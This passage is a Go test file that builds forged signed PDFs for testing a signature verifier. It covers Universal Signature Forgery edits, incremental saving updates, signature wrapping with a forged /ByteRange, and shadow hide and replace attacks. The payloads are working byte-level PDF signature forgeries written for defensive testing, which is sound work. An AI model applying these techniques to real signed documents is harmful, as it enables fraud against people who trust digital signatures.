package verify

// The attack generator: from PDFs the tests sign themselves, one file per
// attack class and variant of attacks.md section 3, and the benign
// workflows that look like them byte for byte (attacks_test.go runs them).
// Every file is built the way the recipe says, at byte level, so that a
// verifier cannot pass by accident of a well-behaved writer.

import (
	"bytes"
	"cmp"
	"fmt"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
)

// Object numbers every test document shares: the catalog, the page tree,
// its one page, the page's content stream and its font. Base documents add
// their own objects from firstFree on.
const (
	objCatalog = 1
	objPages   = 2
	objPage    = 3
	objContent = 4
	objFont    = 5
	firstFree  = 6
)

// visibleText is what the signer sees on the page; hiddenText is what a
// shadow attack prepared underneath, and fakeText what an attacker paints.
const (
	visibleText = "BT /F1 24 Tf 72 720 Td (Hello, verso) Tj ET"
	hiddenText  = "BT /F1 24 Tf 72 660 Td (Pay 1,000,000 EUR to Mallory) Tj ET"
	fakeText    = "q 1 g 0 0 340 50 re f Q BT 0 g /F1 24 Tf 12 16 Td (Pay Mallory) Tj ET"
)

// attackDoc is a test document and the state an update needs to restate
// the catalog or the page with one entry changed.
type attackDoc struct {
	pdf      []byte
	size     int    // the trailer's /Size: the next free object number
	contents string // the page's /Contents value
	xobjects string // entries of the page's /Resources /XObject, "" for none
	annots   []int  // the page's /Annots
	fields   []int  // the AcroForm's /Fields
	perms    int    // the certification signature's dictionary, 0 if none
	drFont   int    // the font of the form's /DR, the page's (5) when 0
	dss      int    // the catalog's /DSS, 0 if none
	metadata int    // the catalog's /Metadata, 0 if none
	lastSig  int    // the dictionary of the latest signature
	// shadow holds the offsets of bodies the xref does not use (a second
	// definition, or a body whose entry is free), by object number.
	shadow map[int]int
}

// baseSpec describes an unsigned document.
type baseSpec struct {
	content  string         // the stream of object 4
	contents string         // the page's /Contents value, "4 0 R" when empty
	xobjects string         // page XObject resources
	extra    map[int]string // objects from firstFree on
	annots   []int          // annotations of the page (widgets included)
	fields   []int          // AcroForm fields
	// free objects are written but marked free in the xref; dup objects get
	// a second body after all others, which the xref does not point at.
	free []int
	dup  map[int]string
}

func stream(dict, data string) string {
	if dict != "" {
		dict = " " + dict
	}
	return fmt.Sprintf("<<%s /Length %d >>\nstream\n%s\nendstream", dict, len(data), data)
}

func refList(nums []int) string {
	s := make([]string, len(nums))
	for i, n := range nums {
		s[i] = fmt.Sprintf("%d 0 R", n)
	}
	return strings.Join(s, " ")
}

func (d *attackDoc) catalog() string {
	var b strings.Builder
	b.WriteString("<< /Type /Catalog /Pages 2 0 R")
	if len(d.fields) > 0 {
		fmt.Fprintf(&b, " /AcroForm << /Fields [%s] /SigFlags 3 /DA (/F1 12 Tf 0 g) /DR << /Font << /F1 %d 0 R >> >> >>", refList(d.fields), cmp.Or(d.drFont, objFont))
	}
	if d.perms > 0 {
		fmt.Fprintf(&b, " /Perms << /DocMDP %d 0 R >>", d.perms)
	}
	if d.dss > 0 {
		fmt.Fprintf(&b, " /DSS %d 0 R", d.dss)
	}
	if d.metadata > 0 {
		fmt.Fprintf(&b, " /Metadata %d 0 R", d.metadata)
	}
	b.WriteString(" >>")
	return b.String()
}

func (d *attackDoc) page() string {
	var b strings.Builder
	fmt.Fprintf(&b, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %s /Resources << /Font << /F1 5 0 R >>", d.contents)
	if d.xobjects != "" {
		fmt.Fprintf(&b, " /XObject << %s >>", d.xobjects)
	}
	b.WriteString(" >>")
	if len(d.annots) > 0 {
		fmt.Fprintf(&b, " /Annots [%s]", refList(d.annots))
	}
	b.WriteString(" >>")
	return b.String()
}

// newAttackDoc writes the unsigned base document with a single xref table,
// free entries and unused second bodies as the spec says.
func newAttackDoc(spec baseSpec) *attackDoc {
	d := &attackDoc{contents: spec.contents, xobjects: spec.xobjects, annots: spec.annots, fields: spec.fields, shadow: map[int]int{}}
	if d.contents == "" {
		d.contents = "4 0 R"
	}
	if spec.content == "" {
		spec.content = visibleText
	}
	bodies := map[int]string{
		objCatalog: d.catalog(),
		objPages:   "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		objPage:    d.page(),
		objContent: stream("", spec.content),
		objFont:    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
	}
	for n, b := range spec.extra {
		bodies[n] = b
	}
	d.size = slices.Max(mapKeys(bodies)) + 1
	var buf bytes.Buffer
	buf.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	offsets := map[int]int{}
	for _, n := range slices.Sorted(mapKeysSeq(bodies)) {
		offsets[n] = buf.Len()
		fmt.Fprintf(&buf, "%d 0 obj\n%s\nendobj\n", n, bodies[n])
	}
	for _, n := range slices.Sorted(mapKeysSeq(spec.dup)) {
		d.shadow[n] = buf.Len()
		fmt.Fprintf(&buf, "%d 0 obj\n%s\nendobj\n", n, spec.dup[n])
	}
	for _, n := range spec.free {
		d.shadow[n] = offsets[n]
	}
	xref := buf.Len()
	fmt.Fprintf(&buf, "xref\n0 %d\n0000000000 65535 f\r\n", d.size)
	for n := 1; n < d.size; n++ {
		off, ok := offsets[n]
		if !ok || slices.Contains(spec.free, n) {
			buf.WriteString("0000000000 00001 f\r\n")
			continue
		}
		fmt.Fprintf(&buf, "%010d 00000 n\r\n", off)
	}
	fmt.Fprintf(&buf, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", d.size, xref)
	d.pdf = buf.Bytes()
	return d
}

func mapKeys[V any](m map[int]V) []int { return slices.Collect(mapKeysSeq(m)) }

func mapKeysSeq[V any](m map[int]V) func(func(int) bool) {
	return func(yield func(int) bool) {
		for k := range m {
			if !yield(k) {
				return
			}
		}
	}
}

// numBody is one object of an update, in the order it is written.
type numBody struct {
	num  int
	body string
}

// xrefLine is one entry of a hand-written xref section.
type xrefLine struct {
	num  int
	off  int
	gen  int
	free bool
}

func (l xrefLine) String() string {
	kind := "n"
	if l.free {
		kind = "f"
	}
	return fmt.Sprintf("%d 1\n%010d %05d %s\r\n", l.num, l.off, l.gen, kind)
}

// appendObjects writes objects after base and returns the new bytes and
// an xref entry for each.
func appendObjects(base []byte, objs []numBody) ([]byte, []xrefLine) {
	out := append([]byte{}, base...)
	var lines []xrefLine
	for _, o := range objs {
		lines = append(lines, xrefLine{num: o.num, off: len(out)})
		out = fmt.Appendf(out, "%d 0 obj\n%s\nendobj\n", o.num, o.body)
	}
	return out, lines
}

// appendXRef closes an update: an xref table with lines, a trailer chained
// by /Prev to the previous startxref, startxref and %%EOF. extra goes into
// the trailer (e.g. /XRefStm).
func appendXRef(t *testing.T, out []byte, prev, size int, lines []xrefLine, extra string) []byte {
	t.Helper()
	slices.SortStableFunc(lines, func(a, b xrefLine) int { return a.num - b.num })
	for _, l := range lines {
		size = max(size, l.num+1)
	}
	xref := len(out)
	out = append(out, "xref\n"...)
	for _, l := range lines {
		out = append(out, l.String()...)
	}
	return fmt.Appendf(out, "trailer\n<< /Size %d /Root 1 0 R /Prev %d%s >>\nstartxref\n%d\n%%%%EOF\n", size, prev, extra, xref)
}

// update appends a well-formed incremental update with objs.
func (d *attackDoc) update(t *testing.T, objs ...numBody) {
	t.Helper()
	out, lines := appendObjects(d.pdf, objs)
	d.pdf = appendXRef(t, out, lastStartXRef(t, d.pdf), d.size, lines, "")
	d.size = trailerSize(t, d.pdf)
}

// alloc returns the next free object number.
func (d *attackDoc) alloc() int {
	d.size++
	return d.size - 1
}

func (d *attackDoc) clone() *attackDoc {
	c := *d
	c.pdf = append([]byte{}, d.pdf...)
	c.annots = slices.Clone(d.annots)
	c.fields = slices.Clone(d.fields)
	return &c
}

// sigOpts says how to sign.
type sigOpts struct {
	field   string
	signer  *testSigner
	docMDP  int    // 1-3 certifies with DocMDP /P, 0 is an approval signature
	lockAll bool   // FieldMDP /Action /All (reference and the field's /Lock)
	rect    string // the widget's /Rect, invisible when empty
	ap      string // the widget's appearance stream data, none when empty
	// extra entries of the signature dictionary (/Reason, /Name, ...).
	extra string
	// contentsFirst writes /Contents before /ByteRange, as the signers
	// attacked by the published signature wrapping did.
	contentsFirst bool
	// after are further objects written after the signature dictionary in
	// the same revision (a signer's XMP metadata, for instance).
	after []numBody
	// timestamp makes a PAdES document timestamp instead of a signature.
	timestamp *testTSA
}

const byteRangePlaceholder = "/ByteRange [0 ********** ********** **********]"

var contentsZeros = "<" + strings.Repeat("0", contentsPlaceholder) + ">"

// sign adds a signature field (or signs nothing else) in one incremental
// update and signs it: the signed revision is the file as it ends then.
func (d *attackDoc) sign(t *testing.T, o sigOpts) {
	t.Helper()
	sigNum, fieldNum := d.alloc(), d.alloc()
	var ref strings.Builder
	kind := "/Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /M (D:20261123101500+02'00')"
	if o.timestamp != nil {
		kind = "/Type /DocTimeStamp /Filter /Adobe.PPKLite /SubFilter /ETSI.RFC3161"
	}
	if o.docMDP > 0 {
		fmt.Fprintf(&ref, "<< /Type /SigRef /TransformMethod /DocMDP /TransformParams << /Type /TransformParams /P %d /V /1.2 >> /DigestMethod /SHA256 >>", o.docMDP)
		d.perms = sigNum
	}
	if o.lockAll {
		ref.WriteString("<< /Type /SigRef /TransformMethod /FieldMDP /TransformParams << /Type /TransformParams /Action /All /V /1.2 >> /DigestMethod /SHA256 >>")
	}
	body := "<< " + kind
	if ref.Len() > 0 {
		body += " /Reference [" + ref.String() + "]"
	}
	if o.extra != "" {
		body += " " + o.extra
	}
	if o.contentsFirst {
		body += " /Contents " + contentsZeros + " " + byteRangePlaceholder + " >>"
	} else {
		body += " " + byteRangePlaceholder + " /Contents " + contentsZeros + " >>"
	}
	rect, flags := "[0 0 0 0]", 132 // Print + Locked, invisible
	if o.rect != "" {
		rect, flags = o.rect, 4
	}
	field := fmt.Sprintf("<< /Type /Annot /Subtype /Widget /FT /Sig /T (%s) /V %d 0 R /F %d /Rect %s /P 3 0 R", o.field, sigNum, flags, rect)
	var apObj []numBody
	if o.ap != "" {
		ap := d.alloc()
		field += fmt.Sprintf(" /AP << /N %d 0 R >>", ap)
		apObj = append(apObj, numBody{ap, stream("/Type /XObject /Subtype /Form /BBox [0 0 340 50] /Resources << /Font << /F1 5 0 R >> >>", o.ap)})
	}
	if o.lockAll {
		field += " /Lock << /Type /SigFieldLock /Action /All >>"
	}
	field += " >>"
	d.fields = append(d.fields, fieldNum)
	d.annots = append(d.annots, fieldNum)
	objs := []numBody{{sigNum, body}, {objCatalog, d.catalog()}, {objPage, d.page()}, {fieldNum, field}}
	objs = append(objs, apObj...)
	objs = append(objs, o.after...)
	d.update(t, objs...)
	d.lastSig = sigNum
	var sign signFunc
	if o.timestamp != nil {
		sign = o.timestamp.stamp
	} else {
		sign = o.signer.cmsSign()
	}
	d.pdf = fillPlaceholders(t, d.pdf, sign)
}

// fillPlaceholders writes the ByteRange and the CMS into the last
// placeholders, whichever comes first in the dictionary.
func fillPlaceholders(t *testing.T, pdf []byte, sign signFunc) []byte {
	t.Helper()
	br := bytes.LastIndex(pdf, []byte(byteRangePlaceholder))
	lt := bytes.LastIndex(pdf, []byte(contentsZeros))
	if br < 0 || lt < 0 {
		t.Fatal("no signature placeholders")
	}
	gt := lt + len(contentsZeros)
	ranges := fmt.Sprintf("/ByteRange [0 %d %d %d]", lt, gt, len(pdf)-gt)
	ranges += strings.Repeat(" ", len(byteRangePlaceholder)-len(ranges))
	copy(pdf[br:], ranges)
	signed := append(append([]byte{}, pdf[:lt]...), pdf[gt:]...)
	hexDER := fmt.Appendf(nil, "%X", sign(t, signed))
	if len(hexDER) > contentsPlaceholder {
		t.Fatalf("CMS of %d bytes does not fit the placeholder", len(hexDER)/2)
	}
	copy(pdf[lt+1:], hexDER)
	return pdf
}

// contentsSpan returns the offsets a, c of the last signature's /Contents:
// '<' at a, just past '>' at c.
func contentsSpan(t *testing.T, pdf []byte) (a, c int) {
	t.Helper()
	i := bytes.LastIndex(pdf, []byte("/Contents <"))
	if i < 0 {
		t.Fatal("no /Contents")
	}
	a = i + len("/Contents ")
	c = a + bytes.IndexByte(pdf[a:], '>') + 1
	return a, c
}

// sameLength replaces old with repl padded by spaces to old's length, at
// the last occurrence of old: a USF edit that moves no offset.
func sameLength(t *testing.T, pdf []byte, old, repl string) []byte {
	t.Helper()
	i := bytes.LastIndex(pdf, []byte(old))
	if i < 0 || len(repl) > len(old) {
		t.Fatalf("cannot replace %.40q", old)
	}
	out := append([]byte{}, pdf...)
	copy(out[i:], repl+strings.Repeat(" ", len(old)-len(repl)))
	return out
}

// lastByteRange returns the text of the last /ByteRange array with the
// spaces that pad it to the placeholder's length.
func lastByteRange(t *testing.T, pdf []byte) string {
	t.Helper()
	i := bytes.LastIndex(pdf, []byte("/ByteRange ["))
	if i < 0 {
		t.Fatal("no /ByteRange")
	}
	j := i + bytes.IndexByte(pdf[i:], ']') + 1
	for j < len(pdf) && pdf[j] == ' ' && j-i < len(byteRangePlaceholder) {
		j++
	}
	return string(pdf[i:j])
}

// objectBody returns the body of the last "num 0 obj" in pdf, without the
// header and "endobj".
func objectBody(t *testing.T, pdf []byte, num int) string {
	t.Helper()
	hdr := fmt.Sprintf("\n%d 0 obj\n", num)
	i := bytes.LastIndex(pdf, []byte(hdr))
	if i < 0 {
		t.Fatalf("object %d not found", num)
	}
	body := pdf[i+len(hdr):]
	return string(body[:bytes.Index(body, []byte("\nendobj"))])
}

// attackKeys are the keys a generator signs with.
type attackKeys struct {
	signer   *testSigner // the honest signer
	attacker *testSigner // any key the attacker holds
	tsa      *testTSA
}

// Rectangles on the page: where the visible text is, and an empty corner.
const (
	rectOverText = "[60 700 400 750]"
	rectCorner   = "[560 40 580 60]"
)

func plainBase() *attackDoc { return newAttackDoc(baseSpec{}) }

// approvalSigned is the plain document with one approval signature.
func approvalSigned(t *testing.T, k *attackKeys) *attackDoc {
	d := plainBase()
	d.sign(t, sigOpts{field: "Signature1", signer: k.signer})
	return d
}

// certified is the plain document certified at DocMDP level p.
func certified(t *testing.T, k *attackKeys, p int) *attackDoc {
	d := plainBase()
	d.sign(t, sigOpts{field: "Certification", signer: k.signer, docMDP: p})
	return d
}

// ---- USF, attacks.md 1.1 and 3.1 -------------------------------------------

// genUSF is the Universal Signature Forgery: the signature dictionary of a
// validly signed file edited in place, keeping every offset, so that no
// real verification can happen while the certificate still names the
// signer (attacks.md 3.1). variant names the edit.
func genUSF(variant string) attackGen {
	return func(t *testing.T, k *attackKeys) []byte {
		pdf := approvalSigned(t, k).pdf
		br := lastByteRange(t, pdf)
		a, c := contentsSpan(t, pdf)
		switch variant {
		case "byterange-renamed":
			return sameLength(t, pdf, br, "/ByteRangX"+br[len("/ByteRange"):])
		case "byterange-null":
			return sameLength(t, pdf, br, "/ByteRange null")
		case "byterange-empty":
			return sameLength(t, pdf, br, "/ByteRange []")
		case "byterange-zero":
			return sameLength(t, pdf, br, "/ByteRange [0 0 0 0]")
		case "byterange-negative":
			return sameLength(t, pdf, br, fmt.Sprintf("/ByteRange [0 %d %d -%d]", a, c, len(pdf)-c))
		case "byterange-beyond-eof":
			return sameLength(t, pdf, br, fmt.Sprintf("/ByteRange [0 %d %d %d]", a, c, len(pdf)-c+4096))
		case "contents-renamed":
			return sameLength(t, pdf, "/Contents <", "/Contentz <")
		}
		out := append([]byte{}, pdf...)
		var repl string
		switch variant {
		case "contents-null":
			repl = "null"
		case "contents-empty":
			repl = "<>"
		case "contents-zero":
			repl = "<" + strings.Repeat("0", c-a-2) + ">"
		default:
			t.Fatalf("unknown USF variant %q", variant)
		}
		copy(out[a:c], repl+strings.Repeat(" ", c-a-len(repl)))
		return out
	}
}

// ---- ISA, attacks.md 1.1 and 3.2 -------------------------------------------

// redBox is the content an incremental saving attack adds to the page.
const redBox = "q 1 0 0 rg 40 560 515 120 re f Q BT 0 g /F1 24 Tf 72 600 Td (Pay 1,000,000 EUR to Mallory) Tj ET"

// isaObjects are the objects of the ISA update: the page restated with a
// second content stream, and that stream.
func isaObjects(d *attackDoc) []numBody {
	n := d.alloc()
	d.contents = fmt.Sprintf("[4 0 R %d 0 R]", n)
	return []numBody{{objPage, d.page()}, {n, stream("", redBox)}}
}

// genISA1 is the Incremental Saving Attack with a complete update: new
// page content after the signed %%EOF (attacks.md 3.2, isa1).
func genISA1(t *testing.T, k *attackKeys) []byte {
	d := approvalSigned(t, k)
	d.update(t, isaObjects(d)...)
	return d.pdf
}

// genISA2 appends the objects without xref or trailer, for viewers that
// repair (attacks.md 3.2, isa2).
func genISA2(t *testing.T, k *attackKeys) []byte {
	d := approvalSigned(t, k)
	out, _ := appendObjects(d.pdf, isaObjects(d))
	return out
}

// genISA3 also re-emits the signature dictionary unchanged in the update,
// so that "the signature is in the last revision" heuristics pass
// (attacks.md 3.2, isa3).
func genISA3(t *testing.T, k *attackKeys) []byte {
	d := approvalSigned(t, k)
	sig := numBody{d.lastSig, objectBody(t, d.pdf, d.lastSig)}
	d.update(t, append(isaObjects(d), sig)...)
	return d.pdf
}

// genISATrailerOnly is the trailer-only update (attacks.md 1.1, ISA
// variants): an empty xref section whose trailer names another catalog,
// prepared in the signed bytes with its own page and the same form (the
// signature field's number is predictable), so the signature still shows.
func genISATrailerOnly(t *testing.T, k *attackKeys) []byte {
	const sigField = 11 // sign allocates the dictionary (10) and the field (11)
	d := newAttackDoc(baseSpec{extra: map[int]string{
		6: fmt.Sprintf("<< /Type /Catalog /Pages 7 0 R /AcroForm << /Fields [%d 0 R] /SigFlags 3 >> >>", sigField),
		7: "<< /Type /Pages /Kids [8 0 R] /Count 1 >>",
		8: "<< /Type /Page /Parent 7 0 R /MediaBox [0 0 612 792] /Contents 9 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
		9: stream("", "BT /F1 24 Tf 72 720 Td (Pay 1,000,000 EUR to Mallory) Tj ET"),
	}})
	d.sign(t, sigOpts{field: "Signature1", signer: k.signer})
	if d.fields[0] != sigField {
		t.Fatalf("the signature field is %d, not %d", d.fields[0], sigField)
	}
	out := fmt.Appendf(d.pdf, "xref\ntrailer\n<< /Size %d /Root 6 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n", d.size, lastStartXRef(t, d.pdf), len(d.pdf))
	return out
}

// genISAPrevSkipsSignedRevision chains the update by /Prev to the revision
// before the signature, so that the signed revision drops out of the
// chain; the update restates the signature field and dictionary (copies)
// with the changed page, so a viewer still finds the signature.
func genISAPrevSkipsSignedRevision(t *testing.T, k *attackKeys) []byte {
	d := approvalSigned(t, k)
	signed := lastStartXRef(t, d.pdf)
	before := trailerPrev(t, d.pdf[signed:])
	field := d.fields[0]
	objs := append(isaObjects(d),
		numBody{objCatalog, d.catalog()},
		numBody{d.lastSig, objectBody(t, d.pdf, d.lastSig)},
		numBody{field, objectBody(t, d.pdf, field)})
	out, lines := appendObjects(d.pdf, objs)
	return appendXRef(t, out, before, d.size, lines, "")
}

// genISAXRefStream writes the ISA update with an xref stream, the page
// inside an object stream: the change must be found however the update
// stores its objects (attacks.md 4.C).
func genISAXRefStream(t *testing.T, k *attackKeys) []byte {
	d := approvalSigned(t, k)
	objs := isaObjects(d)
	page, content := objs[0], objs[1]
	objStm, xs := d.alloc(), d.alloc()
	out, lines := appendObjects(d.pdf, []numBody{content})
	head := fmt.Sprintf("%d 0 ", objPage)
	lines = append(lines, xrefLine{num: objStm, off: len(out)})
	out = fmt.Appendf(out, "%d 0 obj\n%s\nendobj\n", objStm, stream(fmt.Sprintf("/Type /ObjStm /N 1 /First %d", len(head)), head+page.body))
	lines = append(lines, xrefLine{num: xs, off: len(out)}, xrefLine{num: objPage, off: -objStm})
	slices.SortFunc(lines, func(a, b xrefLine) int { return a.num - b.num })
	var data []byte
	index := ""
	for _, l := range lines {
		index += fmt.Sprintf("%d 1 ", l.num)
		if l.off < 0 { // compressed: the object stream's number, index 0
			data = append(data, 2, byte(-l.off>>24), byte(-l.off>>16), byte(-l.off>>8), byte(-l.off), 0, 0)
		} else {
			data = append(data, 1, byte(l.off>>24), byte(l.off>>16), byte(l.off>>8), byte(l.off), 0, 0)
		}
	}
	at := len(out)
	out = fmt.Appendf(out, "%d 0 obj\n<< /Type /XRef /Size %d /Root 1 0 R /Prev %d /W [1 4 2] /Index [%s] /Length %d >>\nstream\n%s\nendstream\nendobj\n",
		xs, d.size, lastStartXRef(t, d.pdf), strings.TrimSpace(index), len(data), data)
	return fmt.Appendf(out, "startxref\n%d\n%%%%EOF\n", at)
}

// ---- SWA, attacks.md 1.1 and 3.3 -------------------------------------------

// xmpPacket is the metadata a signer writes after the signature dictionary;
// its bytes give the wrapped objects room in the signed revision's tail.
var xmpPacket = `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>
<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:pdf="http://ns.adobe.com/pdf/1.3/">
<dc:title><rdf:Alt><rdf:li xml:lang="x-default">verso signature wrapping test</rdf:li></rdf:Alt></dc:title>
<pdf:Producer>verso attack generator</pdf:Producer>
</rdf:Description></rdf:RDF></x:xmpmeta>
` + strings.Repeat(strings.Repeat(" ", 99)+"\n", 12) + `<?xpacket end="w"?>`

// genSWA is the Signature Wrapping Attack, built as attacks.md 3.3 says:
// the signed tail P2 (which holds the original /ByteRange, written after
// /Contents, and the final startxref X) moves to the end; the enlarged gap
// after /Contents gets a forged /ByteRange [0 a c' d], a new page and its
// content, and at exactly offset X an xref table that re-points the page.
// The bytes the forged ByteRange covers are still the signed ones.
// contentsFirst false keeps the signed /ByteRange before /Contents, so
// the forged one is a second /ByteRange key of the same dictionary.
func genSWA(contentsFirst bool) attackGen {
	return func(t *testing.T, k *attackKeys) []byte { return wrapSignature(t, k, contentsFirst) }
}

func wrapSignature(t *testing.T, k *attackKeys, contentsFirst bool) []byte {
	d := plainBase()
	d.metadata = d.alloc()
	d.sign(t, sigOpts{field: "Signature1", signer: k.signer, contentsFirst: contentsFirst,
		after: []numBody{{d.metadata, stream("/Type /Metadata /Subtype /XML", xmpPacket)}}})
	s := d.pdf
	a, c := contentsSpan(t, s)
	x := lastStartXRef(t, s)
	if x <= c {
		t.Fatal("the signed revision's xref lies before /Contents")
	}
	prev := trailerPrev(t, s[x:])
	entries := xrefEntries(t, s[x:])

	// The forged end of the signature dictionary and the attacker's objects.
	content := d.alloc()
	d.contents = fmt.Sprintf("[4 0 R %d 0 R]", content)
	build := func(delta int) ([]byte, map[int]int) {
		q := append([]byte{}, s[:c]...)
		q = fmt.Appendf(q, "\n/ByteRange [0 %d %d %d] >>\nendobj\n", a, c+delta, len(s)-c)
		offs := map[int]int{content: len(q)}
		q = fmt.Appendf(q, "%d 0 obj\n%s\nendobj\n", content, stream("", redBox))
		offs[objPage] = len(q)
		q = fmt.Appendf(q, "%d 0 obj\n%s\nendobj\n", objPage, d.page())
		return q, offs
	}
	q, _ := build(0)
	if len(q)+2 > x {
		t.Fatalf("the wrapped objects (%d bytes) do not fit before offset %d", len(q)-c, x)
	}
	// The table's length does not depend on the offsets (20 bytes an entry),
	// so delta follows from one trial build.
	table := func(offs map[int]int, delta int) []byte {
		lines := []xrefLine{{num: content, off: offs[content]}}
		for _, e := range entries {
			switch {
			case e.num == objPage:
				e.off = offs[objPage]
			case e.off >= c:
				e.off += delta
			}
			lines = append(lines, e)
		}
		slices.SortFunc(lines, func(a, b xrefLine) int { return a.num - b.num })
		out := []byte("xref\n")
		for _, l := range lines {
			out = append(out, l.String()...)
		}
		return fmt.Appendf(out, "trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\n", d.size, prev)
	}
	_, offs := build(0)
	delta := x + len(table(offs, 0)) + 64 - c
	q, offs = build(delta)
	q = append(q, '%')
	q = append(q, bytes.Repeat([]byte{' '}, x-len(q)-1)...)
	q = append(q, '\n')
	q = append(q, table(offs, delta)...)
	q = append(q, '%')
	q = append(q, bytes.Repeat([]byte{' '}, c+delta-len(q))...)
	return append(q, s[c:]...)
}

// trailerPrev reads /Prev from the trailer of the xref table at the start of b.
func trailerPrev(t *testing.T, b []byte) int {
	t.Helper()
	m := regexp.MustCompile(`/Prev (\d+)`).FindSubmatch(b)
	if m == nil {
		t.Fatal("no /Prev")
	}
	n, _ := strconv.Atoi(string(m[1]))
	return n
}

// xrefEntries reads the one-entry subsections that appendXRef writes.
func xrefEntries(t *testing.T, b []byte) []xrefLine {
	t.Helper()
	end := bytes.Index(b, []byte("trailer"))
	var out []xrefLine
	for _, m := range regexp.MustCompile(`(\d+) 1\n(\d{10}) (\d{5}) ([nf])`).FindAllSubmatch(b[:end], -1) {
		num, _ := strconv.Atoi(string(m[1]))
		off, _ := strconv.Atoi(string(m[2]))
		gen, _ := strconv.Atoi(string(m[3]))
		out = append(out, xrefLine{num: num, off: off, gen: gen, free: m[4][0] == 'f'})
	}
	return out
}

// ---- Shadow attacks, attacks.md 1.2 and 3.7, 3.8 ---------------------------

// coverForm is a white Form XObject over the whole page.
var coverForm = stream("/Type /XObject /Subtype /Form /BBox [0 0 612 792]", "1 g 0 0 612 792 re f")

// genShadowHideV1 is shadow "hide via referenced object" (RUB variant 1):
// the signed page draws hidden text, a full-page white XObject over it,
// then the visible text. The update appends a metadata stream and maps
// the XObject's number and the stream's to one offset, so the cover no
// longer resolves to a form and the hidden text shows.
func genShadowHideV1(t *testing.T, k *attackKeys) []byte {
	d := newAttackDoc(baseSpec{
		content:  hiddenText + " q /Cover Do Q " + visibleText,
		xobjects: "/Cover 6 0 R",
		extra:    map[int]string{6: coverForm},
	})
	d.sign(t, sigOpts{field: "Signature1", signer: k.signer})
	meta := d.alloc()
	out, lines := appendObjects(d.pdf, []numBody{{meta, stream("/Type /Metadata /Subtype /XML", xmpPacket)}})
	lines = append(lines, xrefLine{num: 6, off: lines[0].off})
	return appendXRef(t, out, lastStartXRef(t, d.pdf), d.size, lines, "")
}

// genShadowHideGeneration hides the cover of genShadowHideV1 by bumping
// its generation: the update restates the same body as "6 1 obj", so the
// page's "6 0 R" no longer resolves (poppler and pdf.js read null) and the
// hidden text shows, while every object's value stays the same.
func genShadowHideGeneration(t *testing.T, k *attackKeys) []byte {
	d := newAttackDoc(baseSpec{
		content:  hiddenText + " q /Cover Do Q " + visibleText,
		xobjects: "/Cover 6 0 R",
		extra:    map[int]string{6: coverForm},
	})
	d.sign(t, sigOpts{field: "Signature1", signer: k.signer})
	at := len(d.pdf)
	out := fmt.Appendf(append([]byte{}, d.pdf...), "6 1 obj\n%s\nendobj\n", coverForm)
	return appendXRef(t, out, lastStartXRef(t, d.pdf), d.size, []xrefLine{{num: 6, off: at, gen: 1}}, "")
}

// noteField is a read-only text field whose appearance is a white box: in
// the signed revision it hides the text under it.
func noteField(rect string) string {
	return "<< /Type /Annot /Subtype /Widget /FT /Tx /T (Note) /Ff 1 /F 4 /Rect " + rect + " /P 3 0 R /V () /MK << >> /AP << /N 7 0 R >> >>"
}

// genShadowHideV2 is shadow "hide via form" (RUB variant 2): the update
// redefines the overlaying widget as an empty dictionary.
func genShadowHideV2(t *testing.T, k *attackKeys) []byte {
	d := newAttackDoc(baseSpec{
		content: visibleText + " " + hiddenText,
		extra: map[int]string{
			6: noteField("[60 640 560 700]"),
			7: stream("/Type /XObject /Subtype /Form /BBox [0 0 500 60]", "1 g 0 0 500 60 re f"),
		},
		annots: []int{6}, fields: []int{6},
	})
	d.sign(t, sigOpts{field: "Signature1", signer: k.signer})
	d.update(t, numBody{6, "<< >>"})
	return d.pdf
}

// amountBase has a text field styled as static text, showing "100 EUR":
// the field that shadow replace variant 1 fills after signing.
func amountBase() *attackDoc {
	return newAttackDoc(baseSpec{
		extra: map[int]string{
			6: "<< /Type /Annot /Subtype /Widget /FT /Tx /T (Amount) /F 4 /Rect [72 600 400 630] /P 3 0 R /V (100 EUR) /DA (/F1 24 Tf 0 g) /MK << >> /AP << /N 7 0 R >> >>",
			7: amountAppearance("100 EUR"),
		},
		annots: []int{6}, fields: []int{6},
	})
}

func amountAppearance(text string) string {
	return stream("/Type /XObject /Subtype /Form /BBox [0 0 328 30] /Resources << /Font << /F1 5 0 R >> >>",
		"/Tx BMC BT /F1 24 Tf 0 g 2 8 Td ("+text+") Tj ET EMC")
}

// fillAmount is the form fill: the field's value and its own appearance.
func fillAmount(t *testing.T, d *attackDoc, text string) {
	d.update(t,
		numBody{6, fmt.Sprintf("<< /Type /Annot /Subtype /Widget /FT /Tx /T (Amount) /F 4 /Rect [72 600 400 630] /P 3 0 R /V (%s) /DA (/F1 24 Tf 0 g) /MK << >> /AP << /N 7 0 R >> >>", text)},
		numBody{7, amountAppearance(text)})
}

// genShadowReplaceV1 is shadow "replace via overlay form" (RUB variant 1):
// the update fills a field that looked like static text. Form filling is
// permitted by default, so the attack is one only where the signer forbade
// it; lock says how: "fieldmdp" (the approval signature locks all fields)
// or "p1" (certified with no changes permitted).
func genShadowReplaceV1(lock string) attackGen {
	return func(t *testing.T, k *attackKeys) []byte {
		d := amountBase()
		o := sigOpts{field: "Signature1", signer: k.signer}
		switch lock {
		case "fieldmdp":
			o.lockAll = true
		case "p1":
			o.docMDP = 1
		}
		d.sign(t, o)
		fillAmount(t, d, "1,000,000 EUR")
		return d.pdf
	}
}

// genShadowReplaceV2 is shadow "replace via overwrite" (RUB variant 2):
// the update redefines the page's font so that the same codes draw other
// glyphs. sharedWithForm makes that font also the form's default
// resource (/DR), as writers often do, so the change can pass for form
// resources being updated.
func genShadowReplaceV2(sharedWithForm bool) attackGen {
	return func(t *testing.T, k *attackKeys) []byte {
		d := plainBase()
		if !sharedWithForm {
